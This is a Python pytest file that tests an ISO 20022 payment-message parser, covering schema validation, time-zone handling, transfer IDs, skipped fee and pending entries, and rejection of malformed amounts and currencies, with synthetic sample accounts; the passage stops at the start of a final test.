"""ISO 20022 (pacs.008, camt.053, camt.054) -> transfer records.

The official XSDs are read from ``../shared/data/iso20022/xsd`` beside the repository (or
``$FANZHA_ISO20022_XSD_DIR``). Without them the tests that need them are skipped, except under
``CI=true`` where that is a failure: CI must check the samples against the real schemas.
"""

from __future__ import annotations

import hashlib
import os
import pickle
import re
import time
import uuid
from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from fanzha.ingest.iso20022 import (
    SKIP_KINDS,
    Iso20022Error,
    Iso20022Result,
    Iso20022Transfer,
    SkippedEntry,
    detect_message_type,
    parse_iso20022,
    parse_iso20022_detailed,
)
from fanzha.ingest.iso_reader import read_iso20022
from fanzha.ingest.readers import FileRejected
from fanzha.settings import Settings

from .iso20022_samples import (
    ALICE,
    CAMT_ACCOUNT,
    CAMT_VERSIONS,
    CHEN_JIE,
    HEAD_VERSIONS,
    PACS008_VERSIONS,
    PACS_CTRL_SUM,
    PACS_TXS,
    UETR_1,
    UETR_3,
    UETR_5,
    XINDA,
    ZHANG_WEI,
    CamtEntry,
    CamtTx,
    PacsTx,
    Party,
    camt05x,
    camt_entries,
    camt_fee_entries,
    camt_mixed_entries,
    envelope,
    pacs008,
)

# ``../shared`` beside the repository root (where CI and developers have it).
_SHARED_XSD = Path(__file__).resolve().parents[3] / "shared" / "data" / "iso20022" / "xsd"
XSD_DIR = Path(os.environ.get("FANZHA_ISO20022_XSD_DIR", str(_SHARED_XSD)))
ISO = "urn:iso:std:iso:20022:tech:xsd:"
CST = timezone(timedelta(hours=8))
SHANGHAI = ZoneInfo("Asia/Shanghai")
PACS_MSG_ID = "FZ-PACS-20240506-0001"
CAMT_MSG_ID = "FZ-CAMT-20240506-0001"
PACS_CREATED = datetime(2024, 5, 6, 9, 30, tzinfo=CST)


def _xsd_missing(reason: str) -> None:
    if os.environ.get("CI") == "true":
        pytest.fail(f"{reason}; under CI=true a skipped XSD check is a failure")
    pytest.skip(reason)


def xsd_dir_for(*message_types: str) -> Path:
    """The XSD folder, when it holds the XSDs of ``message_types``; else skip (fail on CI)."""
    if not XSD_DIR.is_dir():
        _xsd_missing(
            f"the official ISO 20022 XSD folder {XSD_DIR} is missing "
            "(set FANZHA_ISO20022_XSD_DIR to where they are)"
        )
    for message_type in message_types:
        if not (XSD_DIR / f"{message_type}.xsd").is_file():
            _xsd_missing(f"{message_type}.xsd is missing from {XSD_DIR}")
    return XSD_DIR


def hashed_id(kind: str, message_id: str, *refs: str | None, index: int) -> str:
    """The documented id of a transfer without UETR (pinned here: stored ids must not move)."""
    h = hashlib.sha256()
    for part in (kind, message_id, *refs, str(index)):
        h.update((part or "").encode())
        h.update(b"\x1f")
    return "iso20022:" + h.hexdigest()[:32]


def line_of(data: bytes, needle: bytes, nth: int = 1) -> int:
    pos = -1
    for _ in range(nth):
        pos = data.index(needle, pos + 1)
    return data.count(b"\n", 0, pos) + 1


def reject(data: bytes, *, xsd_dir: Path | None = None) -> Iso20022Error:
    with pytest.raises(Iso20022Error) as caught:
        parse_iso20022(data, xsd_dir=xsd_dir)
    return caught.value


# --------------------------------------------------------------------------------------------
# expected transfers of the realistic samples


def expected_pacs(version: str) -> list[Iso20022Transfer]:
    message_type = f"pacs.008.001.{version}"
    return [
        Iso20022Transfer(
            event_id=f"iso20022:{UETR_1}",
            message_type=message_type,
            message_id=PACS_MSG_ID,
            index=0,
            ts=datetime(2024, 5, 6, 9, 12, 45, tzinfo=CST),
            payer_account="6222021001123456789",
            payee_account="755912345610801",
            amount=Decimal("50000.00"),
            currency="CNY",
            payer_name="张伟",
            payee_name="深圳市鑫达贸易有限公司",
            payer_agent="ICBKCNBJXXX",
            payee_agent="CMBCCNBSXXX",
            uetr=UETR_1,
            end_to_end_id="E2E-20240506-0001",
            remittance="货款 合同号 HT-2024-0506",
            direction=None,
        ),
        Iso20022Transfer(
            event_id=hashed_id(
                "pacs.008", PACS_MSG_ID, "INSTR-0002", "E2E-20240506-0002", "TX-0002", None, index=1
            ),
            message_type=message_type,
            message_id=PACS_MSG_ID,
            index=1,
            ts=PACS_CREATED,  # no AccptncDtTm: GrpHdr/CreDtTm
            payer_account="DE89370400440532013000",
            payee_account="6217000010012345678",
            amount=Decimal("1234.56"),
            currency="EUR",
            payer_name="李娜",
            payee_name="王芳",
            payer_agent="COBADEFFXXX",
            payee_agent="105100000017",  # CNAPS member id: no BIC
            uetr=None,
            end_to_end_id="E2E-20240506-0002",
            remittance=None,
            direction=None,
        ),
        Iso20022Transfer(
            event_id=f"iso20022:{UETR_3}",
            message_type=message_type,
            message_id=PACS_MSG_ID,
            index=2,
            ts=datetime(2024, 5, 6, 10, 0, tzinfo=SHANGHAI),  # naive AccptncDtTm
            payer_account="6228480012345678901",
            payee_account="GB29NWBK60161331926819",
            amount=Decimal("99.99"),
            currency="USD",
            payer_name="陈杰",
            payee_name="Alice Smith",
            payer_agent="ABOCCNBJ",
            payee_agent="NWBKGB2L",
            uetr=UETR_3,
            end_to_end_id="E2E-20240506-0003",
            remittance="Invoice 42",
            direction=None,
        ),
        Iso20022Transfer(
            event_id=hashed_id("pacs.008", PACS_MSG_ID, None, "NOTPROVIDED", None, None, index=3),
            message_type=message_type,
            message_id=PACS_MSG_ID,
            index=3,
            ts=PACS_CREATED,
            payer_account="1234567",
            payee_account="6230580000123456789",
            amount=Decimal("150000"),
            currency="JPY",
            payer_name="田中太郎",
            payee_name=None,
            payer_agent="MHCBJPJT",
            payee_agent="313584099990",
            uetr=None,
            end_to_end_id="NOTPROVIDED",
            remittance=None,
            direction=None,
        ),
    ]


def expected_camt(kind: str, version: str) -> list[Iso20022Transfer]:
    message_type = f"camt.{kind}.001.{version}"
    family = f"camt.{kind}"
    has_uetr = version >= "08"
    xinda = ("755912345610801", "深圳市鑫达贸易有限公司", "CMBCCNBSXXX")

    def make(
        index: int,
        ts: datetime,
        payer: tuple[str, str, str],
        payee: tuple[str, str, str],
        amount: str,
        uetr: str | None,
        refs: tuple[str | None, ...],
        end_to_end_id: str,
        remittance: str | None,
        direction: str,
    ) -> Iso20022Transfer:
        uetr = uetr if has_uetr else None
        return Iso20022Transfer(
            event_id=f"iso20022:{uetr}"
            if uetr
            else hashed_id(family, CAMT_MSG_ID, *refs, index=index),
            message_type=message_type,
            message_id=CAMT_MSG_ID,
            index=index,
            ts=ts,
            payer_account=payer[0],
            payee_account=payee[0],
            amount=Decimal(amount),
            currency="CNY",
            payer_name=payer[1],
            payee_name=payee[1],
            payer_agent=payer[2],
            payee_agent=payee[2],
            uetr=uetr,
            end_to_end_id=end_to_end_id,
            remittance=remittance,
            direction=direction,
        )

    return [
        make(
            0,
            datetime(2024, 5, 6, 9, 13, 2, tzinfo=CST),
            ("6222021001123456789", "张伟", "ICBKCNBJXXX"),
            xinda,
            "50000.00",
            UETR_1,
            (None, "E2E-20240506-0001", "TX-0001", "CMB-20240506-000101"),
            "E2E-20240506-0001",
            "货款",
            "CRDT",
        ),
        make(  # a batch entry: two TxDtls; booked on a date only
            1,
            datetime(2024, 5, 6, tzinfo=SHANGHAI),
            ("DE89370400440532013000", "李娜", "COBADEFFXXX"),
            xinda,
            "18000.00",
            None,
            (None, "E2E-B-1", None, "CMB-20240506-000102-1"),
            "E2E-B-1",
            None,
            "CRDT",
        ),
        make(
            2,
            datetime(2024, 5, 6, tzinfo=SHANGHAI),
            ("6217000010012345678", "王芳", "105100000017"),
            xinda,
            "12000.00",
            None,
            (None, "E2E-B-2", None, "CMB-20240506-000102-2"),
            "E2E-B-2",
            "还款 第二期",
            "CRDT",
        ),
        make(  # a debit whose TxDtls has no amount of its own (.02/.08/.11): the entry's
            3,
            datetime(2024, 5, 6, 11, 30, tzinfo=SHANGHAI),
            xinda,
            ("6228480012345678901", "陈杰", "ABOCCNBJ"),
            "47500.00",
            None,
            (None, "E2E-OUT-0001", None, "CMB-20240506-000103"),
            "E2E-OUT-0001",
            None,
            "DBIT",
        ),
        # the pending (PDNG) entry of 888.00 is not a transfer yet
        make(
            4,
            datetime(2024, 5, 6, 15, 45, 10, tzinfo=CST),
            xinda,
            ("GB29NWBK60161331926819", "Alice Smith", "NWBKGB2L"),
            "2000.00",
            UETR_5,
            (None, "E2E-OUT-0002", None, "CMB-20240506-000105"),
            "E2E-OUT-0002",
            "Consulting fee",
            "DBIT",
        ),
    ]


def pacs_sample(version: str = "08") -> bytes:
    return pacs008(version, PACS_TXS, ctrl_sum=PACS_CTRL_SUM)


def camt_sample(kind: str = "054", version: str = "08") -> bytes:
    return camt05x(kind, version, CAMT_ACCOUNT, camt_entries(version))


# --------------------------------------------------------------------------------------------
# every supported version: valid against the official XSD and parsed exactly


@pytest.mark.parametrize("version", PACS008_VERSIONS)
def test_pacs008_sample_is_xsd_valid_and_parses_exactly(version: str) -> None:
    message_type = f"pacs.008.001.{version}"
    data = pacs_sample(version)
    expected = expected_pacs(version)
    assert parse_iso20022(data) == expected
    assert parse_iso20022(data, xsd_dir=xsd_dir_for(message_type)) == expected


@pytest.mark.parametrize("kind", ["053", "054"])
@pytest.mark.parametrize("version", CAMT_VERSIONS)
def test_camt_sample_is_xsd_valid_and_parses_exactly(kind: str, version: str) -> None:
    message_type = f"camt.{kind}.001.{version}"
    data = camt_sample(kind, version)
    expected = expected_camt(kind, version)
    assert parse_iso20022(data) == expected
    assert parse_iso20022(data, xsd_dir=xsd_dir_for(message_type)) == expected


def test_time_zones_are_kept_and_naive_times_take_the_given_zone() -> None:
    shanghai = parse_iso20022(pacs_sample())
    utc = parse_iso20022(pacs_sample(), tz="UTC")
    assert [t.ts.utcoffset() for t in shanghai] == [timedelta(hours=8)] * 4
    assert shanghai[2].ts == datetime(2024, 5, 6, 2, 0, tzinfo=UTC)  # 10:00 in Shanghai
    assert utc[2].ts == datetime(2024, 5, 6, 10, 0, tzinfo=UTC)  # 10:00 in UTC
    assert utc[0].ts == shanghai[0].ts  # written with an offset: the zone does not matter
    booked = parse_iso20022(camt_sample(), tz="Europe/Berlin")
    assert booked[1].ts == datetime(2024, 5, 6, tzinfo=ZoneInfo("Europe/Berlin"))
    with pytest.raises(ValueError, match="unknown time zone"):
        parse_iso20022(pacs_sample(), tz="Mars/Olympus_Mons")


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("2024-05-06T10:00:00Z", datetime(2024, 5, 6, 10, tzinfo=UTC)),
        ("2024-05-06T10:00:00.123456789-05:00", datetime(2024, 5, 6, 15, 0, 0, 123456, tzinfo=UTC)),
        ("2024-05-06T10:00:00.5", datetime(2024, 5, 6, 10, 0, 0, 500000, tzinfo=SHANGHAI)),
        ("2024-05-06T24:00:00+08:00", datetime(2024, 5, 7, tzinfo=CST)),
    ],
)
def test_iso_date_time_forms(written: str, expected: datetime) -> None:
    tx = PacsTx(debtor=ZHANG_WEI, creditor=XINDA, accepted_at=written)
    assert parse_iso20022(pacs008("08", [tx]))[0].ts == expected


def test_camt_dates_carry_their_own_offset() -> None:
    entry = CamtEntry(
        "CRDT", "10.00", booked_on="2024-05-06+02:00", txs=(CamtTx(ZHANG_WEI, amount="10.00"),)
    )
    [transfer] = parse_iso20022(camt05x("054", "08", XINDA, [entry]))
    assert transfer.ts == datetime(2024, 5, 6, tzinfo=timezone(timedelta(hours=2)))


@pytest.mark.parametrize("header_version", HEAD_VERSIONS)
@pytest.mark.parametrize("root", ["BizMsg", "Envelope"])
def test_app_header_envelope(root: str, header_version: str) -> None:
    pacs = envelope(pacs_sample("09"), "pacs.008.001.09", root=root, header_version=header_version)
    camt = envelope(camt_sample("053", "11"), "camt.053.001.11", root=root)
    assert parse_iso20022(pacs) == expected_pacs("09")
    assert parse_iso20022(camt) == expected_camt("053", "11")
    # the header is a real head.001 AppHdr, and the Document stays valid inside the envelope
    xsd = xsd_dir_for(f"head.001.001.{header_version}", "pacs.008.001.09")
    schema = etree.XMLSchema(etree.parse(str(xsd / f"head.001.001.{header_version}.xsd")))
    schema.assertValid(etree.fromstring(pacs)[0])
    assert parse_iso20022(pacs, xsd_dir=xsd) == expected_pacs("09")


def test_document_found_below_a_deeper_envelope() -> None:
    inner = pacs_sample()
    data = b"<DataPDU><Body>" + inner.split(b"?>", 1)[1] + b"</Body></DataPDU>"
    assert parse_iso20022(data) == expected_pacs("08")


def test_detect_message_type() -> None:
    assert detect_message_type(etree.fromstring(pacs_sample("12"))) == "pacs.008.001.12"
    assert detect_message_type(etree.fromstring(camt_sample("053", "02"))) == "camt.053.001.02"
    wrapped = envelope(camt_sample("054", "08"), "camt.054.001.08")
    assert detect_message_type(etree.fromstring(wrapped)) == "camt.054.001.08"
    later = pacs_sample().replace(b"pacs.008.001.08", b"pacs.008.001.14")
    assert detect_message_type(etree.fromstring(later)) == "pacs.008.001.14"
    with pytest.raises(Iso20022Error, match=r"unsupported message type pacs\.002\.001\.10"):
        detect_message_type(etree.fromstring(f'<Document xmlns="{ISO}pacs.002.001.10"/>'.encode()))


def test_prefixed_namespace_comments_and_processing_instructions() -> None:
    data = pacs_sample("10")
    prefixed = re.sub(rb"<(/?)([A-Z])", rb"<\1p:\2", data).replace(b"xmlns=", b"xmlns:p=")
    assert b"<p:Document xmlns:p=" in prefixed
    assert parse_iso20022(prefixed) == expected_pacs("10")
    noisy = (
        data.replace(b"<PmtId>", b"<!-- id --><PmtId><?audit x?>")
        .replace(b">50000.00<", b">500<!-- split -->00.00<")
        .replace(b"<Nm>", b"<Nm><!-- name -->")
    )
    assert parse_iso20022(noisy) == expected_pacs("10")


def test_other_encodings() -> None:
    data = pacs_sample("11")
    assert parse_iso20022(b"\xef\xbb\xbf" + data) == expected_pacs("11")
    text = data.decode().replace("encoding='UTF-8'", "encoding='UTF-16'")
    assert parse_iso20022(text.encode("utf-16")) == expected_pacs("11")


def test_statement_without_booked_entries_has_no_transfers() -> None:
    pending = CamtEntry("CRDT", "5.00", status="PDNG", txs=(CamtTx(ZHANG_WEI, amount="5.00"),))
    info = CamtEntry("DBIT", "7.00", status="INFO", txs=(CamtTx(CHEN_JIE, amount="7.00"),))
    for version in CAMT_VERSIONS:
        assert parse_iso20022(camt05x("053", version, XINDA, [])) == []
        assert parse_iso20022_detailed(camt05x("053", version, XINDA, [])).skipped == []
        data = camt05x("054", version, XINDA, [pending, info])
        assert parse_iso20022(data) == []
        result = parse_iso20022_detailed(data)
        assert [(s.kind, s.amount, s.currency, s.direction) for s in result.skipped] == [
            ("not_booked", Decimal("5.00"), "CNY", "CRDT"),
            ("not_booked", Decimal("7.00"), "CNY", "DBIT"),
        ]
        assert result.skipped[0].reason.startswith("entry status PDNG: not booked")
        assert result.skipped[1].reason.startswith("entry status INFO: not booked")
        assert result.skipped[1].element.endswith("/Ntfctn[1]/Ntry[2]")


def test_not_booked_entries_are_not_checked() -> None:
    # as before: a pending entry is no transfer yet, so its amount is not checked either
    pending = CamtEntry("CRDT", "12,50", status="PDNG", txs=(CamtTx(Party(), amount="1"),))
    [skipped] = parse_iso20022_detailed(camt05x("054", "08", XINDA, [pending])).skipped
    assert (skipped.kind, skipped.amount, skipped.currency) == ("not_booked", None, None)


def test_later_version_of_a_supported_message_is_read() -> None:
    data = pacs_sample("13").replace(b"pacs.008.001.13", b"pacs.008.001.14")
    assert [t.message_type for t in parse_iso20022(data)] == ["pacs.008.001.14"] * 4


def test_camt_reversal_flows_back_to_the_original_debtor() -> None:
    entry = CamtEntry(
        direction="DBIT",
        amount="500.00",
        reversal=True,
        booked_at="2024-05-07T10:00:00+08:00",
        txs=(CamtTx(ZHANG_WEI, amount="500.00", end_to_end_id="E2E-20240506-0001"),),
    )
    data = camt05x("053", "08", XINDA, [entry])
    [transfer] = parse_iso20022(data, xsd_dir=xsd_dir_for("camt.053.001.08"))
    assert (transfer.payer_account, transfer.payee_account) == (
        "755912345610801",
        "6222021001123456789",
    )
    assert (transfer.payer_name, transfer.payee_name) == ("深圳市鑫达贸易有限公司", "张伟")
    assert transfer.direction == "DBIT"


def test_uppercase_uetr_is_accepted_without_xsd_and_lower_cased() -> None:
    tx = PacsTx(debtor=ZHANG_WEI, creditor=XINDA, uetr=UETR_1.upper())
    [transfer] = parse_iso20022(pacs008("08", [tx]))
    assert transfer.uetr == UETR_1
    assert transfer.event_id == f"iso20022:{UETR_1}"


def test_account_whitespace_is_removed() -> None:
    tx = PacsTx(debtor=Party(other_id=" 6222 0210 0112 3456 789 "), creditor=ALICE)
    [transfer] = parse_iso20022(pacs008("08", [tx]))
    assert transfer.payer_account == "6222021001123456789"


# --------------------------------------------------------------------------------------------
# entries that are no account-to-account transfer: fees, interest, card payments, cash


@pytest.mark.parametrize("kind", ["053", "054"])
@pytest.mark.parametrize("version", CAMT_VERSIONS)
def test_statement_with_fee_and_card_payment_keeps_the_transfer(kind: str, version: str) -> None:
    message_type = f"camt.{kind}.001.{version}"
    data = camt05x(kind, version, CAMT_ACCOUNT, camt_mixed_entries(version))
    result = parse_iso20022_detailed(data)
    report = "Stmt" if kind == "053" else "Ntfctn"
    body = "BkToCstmrStmt" if kind == "053" else "BkToCstmrDbtCdtNtfctn"
    entry_path = f"/Document/{body}/{report}[1]/Ntry"
    assert isinstance(result, Iso20022Result)
    assert result.message_type == message_type
    assert result.transfers == expected_camt(kind, version)[:1]  # the credit from 张伟
    assert result.skipped == [
        SkippedEntry(
            element=f"{entry_path}[1]",
            line=line_of(data, b"<Ntry>", 1),
            reason="debit entry without transaction details (NtryDtls/TxDtls), so without a "
            "creditor account (fee, card payment or cash withdrawal?) — not an "
            "account-to-account transfer",
            amount=Decimal("15.00"),
            currency="CNY",
            direction="DBIT",
            kind="no_counterparty",
        ),
        SkippedEntry(
            element=f"{entry_path}[2]/NtryDtls[1]/TxDtls[1]",
            line=line_of(data, b"<TxDtls>", 1),
            reason="debit entry without a creditor account (fee, card payment or cash "
            "withdrawal?) — not an account-to-account transfer",
            amount=Decimal("68.50"),
            currency="CNY",
            direction="DBIT",
            kind="no_counterparty",
        ),
        SkippedEntry(
            element=f"{entry_path}[4]",
            line=line_of(data, b"<Ntry>", 4),
            reason="entry status PDNG: not booked (pending or information only) — not a "
            "transfer yet",
            amount=Decimal("888.00"),
            currency="CNY",
            direction="CRDT",
            kind="not_booked",
        ),
    ]
    assert parse_iso20022(data) == result.transfers
    # the sample is a valid message of that version
    validated = parse_iso20022_detailed(data, xsd_dir=xsd_dir_for(message_type))
    assert validated == result


@pytest.mark.parametrize("kind", ["053", "054"])
@pytest.mark.parametrize("version", CAMT_VERSIONS)
def test_statement_of_only_fees_is_valid_and_has_no_transfers(kind: str, version: str) -> None:
    message_type = f"camt.{kind}.001.{version}"
    data = camt05x(kind, version, CAMT_ACCOUNT, camt_fee_entries())
    result = parse_iso20022_detailed(data)
    assert result.transfers == []
    assert [(s.kind, s.amount, s.direction) for s in result.skipped] == [
        ("no_counterparty", Decimal("10.00"), "DBIT"),
        ("no_counterparty", Decimal("2.00"), "DBIT"),
        ("no_counterparty", Decimal("3.17"), "CRDT"),
    ]
    assert "interest" in result.skipped[2].reason
    assert parse_iso20022(data) == []
    assert parse_iso20022_detailed(data, xsd_dir=xsd_dir_for(message_type)) == result


def test_reversed_card_payment_is_skipped() -> None:
    # a card refund booked as a reversed debit: the counterparty would be the debtor
    refund = CamtEntry(
        "DBIT", "68.50", reversal=True, txs=(CamtTx(Party(name="美团外卖"), amount="68.50"),)
    )
    [skipped] = parse_iso20022_detailed(camt05x("053", "11", XINDA, [refund])).skipped
    assert skipped.reason.startswith("reversed debit entry without a debtor account")
    assert (skipped.direction, skipped.kind) == ("DBIT", "no_counterparty")


def test_skipped_entries_are_still_checked() -> None:
    # a fee line is skipped, not ignored: a malformed one still rejects the whole statement
    bad_fee = CamtEntry("DBIT", "15.001", booked_on="2024-05-06", txs=())
    error = reject(camt05x("053", "08", XINDA, [*camt_mixed_entries("08"), bad_fee]))
    assert error.element == "/Document/BkToCstmrStmt/Stmt[1]/Ntry[5]/Amt"
    assert "has 3 fraction digits" in error.reason
    bad_date = CamtEntry("DBIT", "15.00", booked_on="2024-05-32", txs=())
    error = reject(camt05x("053", "08", XINDA, [bad_date]))
    assert error.element == "/Document/BkToCstmrStmt/Stmt[1]/Ntry[1]/BookgDt/Dt"
    bad_uetr = CamtEntry("DBIT", "9.00", txs=(CamtTx(Party(name="x"), uetr="nope"),))
    error = reject(camt05x("053", "08", XINDA, [bad_uetr]))
    assert error.reason == "UETR: 'nope' is not a UUID v4"
    fees = camt05x("053", "08", XINDA, camt_fee_entries())
    assert fees.count(b"<Id>755912345610801</Id>") == 1  # the statement account only
    error = reject(fees.replace(b"<Id>755912345610801</Id>", b"<Id> </Id>"))
    assert error.element == "/Document/BkToCstmrStmt/Stmt[1]/Acct/Id/Othr/Id"
    assert "cannot tell which account this Stmt is for" in error.reason


def test_skip_kinds() -> None:
    assert SKIP_KINDS == ("no_counterparty", "not_booked")


def _settings(tmp_path: Path) -> Settings:
    return Settings(data_dir=tmp_path / "data")


def test_reader_keeps_transfers_of_a_statement_with_fees(tmp_path: Path) -> None:
    path = tmp_path / "stmt.xml"
    path.write_bytes(camt05x("053", "08", CAMT_ACCOUNT, camt_mixed_entries("08")))
    [batch] = list(read_iso20022(path, "stmt.xml", _settings(tmp_path)))
    assert batch.table.num_rows == 1
    row = batch.table.to_pylist()[0]
    assert (row["payer_account"], row["amount"]) == ("6222021001123456789", "50000.00")


def test_reader_accepts_a_statement_of_only_fees(tmp_path: Path) -> None:
    path = tmp_path / "fees.xml"
    path.write_bytes(camt05x("053", "08", CAMT_ACCOUNT, camt_fee_entries()))
    assert list(read_iso20022(path, "fees.xml", _settings(tmp_path))) == []
    pending = CamtEntry("CRDT", "5.00", status="PDNG", txs=(CamtTx(ZHANG_WEI, amount="5.00"),))
    path.write_bytes(camt05x("054", "08", CAMT_ACCOUNT, [pending]))
    assert list(read_iso20022(path, "pending.xml", _settings(tmp_path))) == []


def test_reader_rejects_a_message_without_any_entry(tmp_path: Path) -> None:
    path = tmp_path / "empty.xml"
    path.write_bytes(camt05x("053", "08", CAMT_ACCOUNT, []))
    with pytest.raises(FileRejected, match="message has no transactions"):
        list(read_iso20022(path, "empty.xml", _settings(tmp_path)))
    path.write_bytes(pacs008("08", [PacsTx(ZHANG_WEI, Party(name="x"))]))
    with pytest.raises(FileRejected, match=r"CdtTrfTxInf\[1\]/CdtrAcct"):
        list(read_iso20022(path, "pacs.xml", _settings(tmp_path)))


# --------------------------------------------------------------------------------------------
# idempotent ids


def test_same_message_twice_gives_the_same_ids() -> None:
    for data in (pacs_sample(), camt_sample("053", "04"), camt_sample("054", "11")):
        first = parse_iso20022(data)
        second = parse_iso20022(data)
        assert [t.event_id for t in first] == [t.event_id for t in second]
        assert len({t.event_id for t in first}) == len(first)


def test_same_payment_in_pacs008_and_camt054_has_the_same_event_id() -> None:
    sent = parse_iso20022(pacs_sample("08"))
    booked = parse_iso20022(camt_sample("054", "08"))
    assert sent[0].uetr == booked[0].uetr == UETR_1
    assert sent[0].event_id == booked[0].event_id == f"iso20022:{UETR_1}"
    assert (sent[0].payer_account, sent[0].payee_account, sent[0].amount) == (
        booked[0].payer_account,
        booked[0].payee_account,
        booked[0].amount,
    )


def test_ids_without_uetr_depend_on_message_and_references() -> None:
    base = parse_iso20022(pacs_sample())[1].event_id
    other_message = parse_iso20022(pacs008("08", PACS_TXS, msg_id="FZ-PACS-20240506-0002"))
    assert other_message[1].event_id != base
    # the same message in another version keeps its ids
    assert parse_iso20022(pacs_sample("12"))[1].event_id == base


# --------------------------------------------------------------------------------------------
# rejections: the whole message, with the element path, line and reason


def test_missing_creditor_account() -> None:
    txs = list(PACS_TXS)
    txs[2] = PacsTx(debtor=CHEN_JIE, creditor=Party(name="Alice Smith", bic="NWBKGB2L"))
    data = pacs008("08", txs)
    error = reject(data)
    assert error.element == "/Document/FIToFICstmrCdtTrf/CdtTrfTxInf[3]/CdtrAcct"
    assert error.reason == "CdtrAcct missing: cannot tell the payee account of transaction 3"
    assert error.line == line_of(data, b"<CdtTrfTxInf>", 3)
    assert "CdtTrfTxInf[3]/CdtrAcct" in str(error)
    assert f"line {error.line}" in str(error)


def test_pacs008_without_an_account_is_still_rejected_whole() -> None:
    # a pacs.008 is an account-to-account credit transfer by definition: nothing is skipped
    for debtor, creditor, name in (
        (ZHANG_WEI, Party(name="深圳市鑫达贸易有限公司", bic="CMBCCNBSXXX"), "CdtrAcct"),
        (Party(name="张伟", bic="ICBKCNBJXXX"), XINDA, "DbtrAcct"),
    ):
        data = pacs008("08", [PACS_TXS[1], PacsTx(debtor, creditor)])
        with pytest.raises(Iso20022Error) as caught:
            parse_iso20022_detailed(data)
        assert caught.value.element == f"/Document/FIToFICstmrCdtTrf/CdtTrfTxInf[2]/{name}"
    assert parse_iso20022_detailed(pacs_sample()).skipped == []


def test_camt_credit_without_debtor_account_is_skipped() -> None:
    entries = list(camt_entries("08"))
    entries[1] = CamtEntry(
        "CRDT",
        "30000.00",
        booked_on="2024-05-06",
        txs=(
            CamtTx(ZHANG_WEI, amount="18000.00"),
            CamtTx(Party(name="王芳"), amount="12000.00"),
        ),
    )
    data = camt05x("053", "08", XINDA, entries)
    result = parse_iso20022_detailed(data, xsd_dir=xsd_dir_for("camt.053.001.08"))
    assert [t.amount for t in result.transfers] == [
        Decimal("50000.00"),
        Decimal("18000.00"),
        Decimal("47500.00"),
        Decimal("2000.00"),
    ]
    assert [t.index for t in result.transfers] == [0, 1, 2, 3]
    skipped = [s for s in result.skipped if s.kind == "no_counterparty"]
    assert skipped == [
        SkippedEntry(
            element="/Document/BkToCstmrStmt/Stmt[1]/Ntry[2]/NtryDtls[1]/TxDtls[2]",
            line=line_of(data, b"<TxDtls>", 3),
            reason="credit transaction without a debtor account (interest, cash deposit or "
            "card refund?) — not an account-to-account transfer",
            amount=Decimal("12000.00"),
            currency="CNY",
            direction="CRDT",
            kind="no_counterparty",
        )
    ]


@pytest.mark.parametrize("version", CAMT_VERSIONS)
def test_camt_debit_without_creditor_account_is_skipped(version: str) -> None:
    entry = CamtEntry("DBIT", "10.00", txs=(CamtTx(Party(name="陈杰"), amount="10.00"),))
    data = camt05x("054", version, XINDA, [entry])
    result = parse_iso20022_detailed(data)
    assert result.transfers == []
    [skipped] = result.skipped
    assert skipped.element.endswith("/Ntfctn[1]/Ntry[1]/NtryDtls[1]/TxDtls[1]")
    assert skipped.reason == (
        "debit entry without a creditor account (fee, card payment or cash withdrawal?) — "
        "not an account-to-account transfer"
    )
    assert (skipped.amount, skipped.currency, skipped.direction, skipped.kind) == (
        Decimal("10.00"),
        "CNY",
        "DBIT",
        "no_counterparty",
    )
    assert parse_iso20022(data) == []


def test_camt_entry_without_details_is_skipped_but_without_amounts_rejected() -> None:
    bare = CamtEntry("CRDT", "10.00", txs=())
    data = camt05x("054", "08", XINDA, [bare])
    [skipped] = parse_iso20022_detailed(data).skipped
    assert skipped.element == "/Document/BkToCstmrDbtCdtNtfctn/Ntfctn[1]/Ntry[1]"
    assert skipped.line == line_of(data, b"<Ntry>")
    assert skipped.reason == (
        "credit entry without transaction details (NtryDtls/TxDtls), so without a debtor "
        "account (interest, cash deposit or card refund?) — not an account-to-account transfer"
    )
    assert (skipped.amount, skipped.direction) == (Decimal("10.00"), "CRDT")
    # the counterparty is missing, but first the amount of each transaction cannot be told
    anonymous = CamtEntry("DBIT", "20.00", txs=(CamtTx(Party(name="a")), CamtTx(Party())))
    error = reject(camt05x("054", "08", XINDA, [anonymous]))
    assert error.element is not None and error.element.endswith("/TxDtls[1]/Amt")
    batch = CamtEntry("CRDT", "20.00", txs=(CamtTx(ZHANG_WEI), CamtTx(CHEN_JIE)))
    error = reject(camt05x("054", "08", XINDA, [batch]))
    assert (
        error.element
        == "/Document/BkToCstmrDbtCdtNtfctn/Ntfctn[1]/Ntry[1]/NtryDtls[1]/TxDtls[1]/Amt"
    )
    assert "cannot tell the amount of transaction 1" in error.reason


@pytest.mark.parametrize(
    ("amount", "currency", "reason"),
    [
        ("12,50", "CNY", "IntrBkSttlmAmt: amount '12,50' is not a decimal"),
        ("", "CNY", "IntrBkSttlmAmt: amount '' is not a decimal"),
        ("1e5", "CNY", "IntrBkSttlmAmt: amount '1e5' is not a decimal"),
        ("１２.５０", "CNY", "IntrBkSttlmAmt: amount '１２.５０' is not a decimal"),
        ("0.00", "CNY", "IntrBkSttlmAmt: amount '0.00' must be greater than zero"),
        ("-5.00", "CNY", "IntrBkSttlmAmt: amount '-5.00' must be greater than zero"),
        ("1.234", "CNY", "IntrBkSttlmAmt: amount '1.234' has 3 fraction digits but CNY allows 2"),
        ("100.5", "JPY", "IntrBkSttlmAmt: amount '100.5' has 1 fraction digits but JPY allows 0"),
        ("1234567890123456789", "CNY", "IntrBkSttlmAmt: amount '1234567890123456789' has more "),
        ("12.50", "cny", "IntrBkSttlmAmt: currency 'cny' is not a 3-letter ISO 4217 code"),
        ("12.50", "RMB1", "IntrBkSttlmAmt: currency 'RMB1' is not a 3-letter ISO 4217 code"),
        ("12.50", "", "IntrBkSttlmAmt: currency '' is not a 3-letter ISO 4217 code"),
    ],
)
def test_bad_amount_or_currency(amount: str, currency: str, reason: str) -> None:
    txs = list(PACS_TXS)
    txs[1] = PacsTx(debtor=ZHANG_WEI, creditor=XINDA, amount=amount, currency=currency)
    data = pacs008("08", txs)
    error = reject(data)
    assert error.reason.startswith(reason)
    assert error.element == "/Document/FIToFICstmrCdtTrf/CdtTrfTxInf[2]/IntrBkSttlmAmt"
    assert error.line == line_of(data, b"<IntrBkSttlmAmt", 2)


def test_amounts_within_the_rules() -> None:
